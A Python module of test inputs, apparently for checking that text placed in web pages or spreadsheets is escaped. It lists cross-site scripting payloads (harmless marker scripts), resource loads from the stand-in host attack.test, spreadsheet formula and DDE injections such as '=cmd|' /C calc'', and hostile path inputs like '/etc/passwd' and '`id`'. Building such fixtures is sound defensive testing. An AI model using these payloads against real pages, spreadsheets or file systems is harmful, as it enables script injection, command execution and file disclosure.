"""Known ways in which a text becomes a script, a fetch or a formula where it is put into a page or a table carelessly.

Our own selection of the kinds; in each RUN stands for a script that would tell (see `runs`), and FETCH for an address.
"""

from __future__ import annotations

FETCH = "http://attack.test/x"
SCRIPTS = [
    "<script>RUN</script>", "<ScRiPt >RUN</sCrIpT\n>", "<script\t>RUN</script >", "<script/x>RUN</script>",
    "<script type=text/javascript>RUN</script>", "<script type=module>RUN</script>",
    "<script>\ufeffRUN</script>", "<svg><script>RUN</script></svg>",
    "<math><mtext><script>RUN</script></mtext></math>",
]  # fmt: skip
HANDLERS = [
    '<img src="x:" onerror="RUN">', "<img src=x: onerror=RUN>", "<IMG/SRC='x:'/ONERROR='RUN'>",
    '<img src="x:" onerror\n=\n"RUN">', "<image src=x: onerror=RUN>", "<svg onload=RUN>", "<svg/onload=RUN>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set onbegin=RUN attributeName=x dur=1s>",
    "<body onload=RUN>", "<details open ontoggle=RUN><summary>x</summary></details>",
    "<video><source onerror=RUN src=x:></video>", "<audio src=x: onerror=RUN>", "<video src=x: onerror=RUN>",
    "<iframe onload=RUN></iframe>",
    "<link rel=stylesheet href=x: onerror=RUN>", "<style onload=RUN></style>",
    "<p style=animation:flash onanimationstart=RUN>x",
]  # fmt: skip
DORMANT = [
    "<script>RUN//", "<scr<script>ipt>RUN</scr</script>ipt>", "<svg><script>RUN</p><p>",
    "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN></textarea>",
    "<button autofocus onfocus=RUN>x", "<object data=x: onerror=RUN></object>", "<embed src=x: onerror=RUN>",
    "<marquee onstart=RUN>x</marquee>", "<x tabindex=1 autofocus onfocus=RUN>x</x>",
    "<a href=# onmouseover=RUN style=position:fixed;inset:0>x</a>",
]  # fmt: skip
"""What takes a hand to begin, or another browser, or the end of a page."""
ADDRESSES = [
    "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java\nscript:RUN", " javascript:RUN", "\x01javascript:RUN",
    "javascript://attack.test/%0aRUN", "vbscript:RUN", "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=RUN>", "//attack.test/x",
    "<a href='javascript:RUN'>x</a>", "<form action='javascript:RUN'><button>x</button></form>",
    "<iframe src='javascript:RUN'></iframe>", "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<math><a xlink:href='javascript:RUN'>x</a></math>",
    "<svg><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>",
    "<object data='data:text/html,<script>RUN</script>'></object>", "<base href='http://attack.test/'>",
]  # fmt: skip
BREAKERS = [
    "</script><script>RUN</script>", "</SCRIPT ><script>RUN</script>", "</style><script>RUN</script>",
    "</title><script>RUN</script>", "</textarea><script>RUN</script>", "</noscript><script>RUN</script>",
    "<!--<script>", "<!--", "-->", "--!><script>RUN</script>", "<![CDATA[<script>RUN</script>]]>", "<!ENTITY x 'RUN'>",
    "]]><script>RUN</script>", "\u2028RUN\u2028", "\u2029RUN//", "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    '";RUN;"', "';RUN;'", "`;RUN;`", "${RUN}", "{{RUN}}", "{{constructor.constructor('RUN')()}}", "#{RUN}",
    "<%= RUN %>",
    "{policy}", "{0}", "%(x)s", '"}]}</script><script>RUN</script>', '","__proto__":{"x":1},"', "\\", '\\";RUN//',
    '" onmouseover="RUN" x="', "' onfocus='RUN' autofocus x='", "x onerror=RUN", "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;", "&quot; onload=&quot;RUN", "\x00<script>RUN</script>",
    "＜script＞RUN＜/script＞",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-", "\u202e<script>RUN</script>", "__proto__", "constructor", "toString",
    "index", "story-0", "main",
]  # fmt: skip
FETCHES = [
    "<img src='FETCH'>", "<img srcset='FETCH 1x'>", "<link rel=stylesheet href='FETCH'>",
    "<link rel=preload as=image href='FETCH'>",
    "<link rel=prefetch href='FETCH'>", "<script src='FETCH'></script>", "<iframe src='FETCH'></iframe>",
    "<object data='FETCH'></object>", "<embed src='FETCH'>", "<video poster='FETCH'></video>",
    "<audio autoplay src='FETCH'>",
    "<style>@import 'FETCH';</style>", "<style>body{background:url(FETCH)}</style>",
    "<p style='background:url(FETCH)'>x",
    "</style><style>*{background:url(FETCH)}", "<meta http-equiv=refresh content='0;url=FETCH'>",
    "<body background='FETCH'>", "<table background='FETCH'>", "<svg><image href='FETCH'/></svg>",
    "<svg><use href='FETCH#x'/></svg>", "<input type=image src='FETCH'>", "url(FETCH)", "expression(RUN)",
]  # fmt: skip
ALIVE = [*SCRIPTS, *HANDLERS]
"""What a browser runs by itself that has it in a page; a test sees that it does."""


def runs(payload: str, number: int) -> str:
    """The payload with a script that would tell its number, and with an address."""
    return payload.replace("RUN", f"(window.ran=window.ran||[]).push({number})").replace("FETCH", FETCH)


PAYLOADS = [runs(each, number) for number, each in enumerate([*ALIVE, *DORMANT, *ADDRESSES, *BREAKERS, *FETCHES])]
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", '=HYPERLINK("http://attack.test/x","x")',
    "=IMPORTXML(\"FETCH\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "x;=1+1", "x\t=1+1", "x\r\n=1+1", 'x";=1+1;"',
]  # fmt: skip
PATHS = [
    "../../x", "/etc/passwd", "..", ".", "", "a/../../b", "..\\..\\x", "C:\\x", "\\\\host\\share", "x\0y", "con",
    "NUL.txt",
    "a\nb", "~/x", "$HOME", "`id`", "-rf", "x" * 300, "%2e%2e%2fx", "․․/x", "a:b", "file:///etc/passwd", "\u202ex",
    ".hidden",
]  # fmt: skip
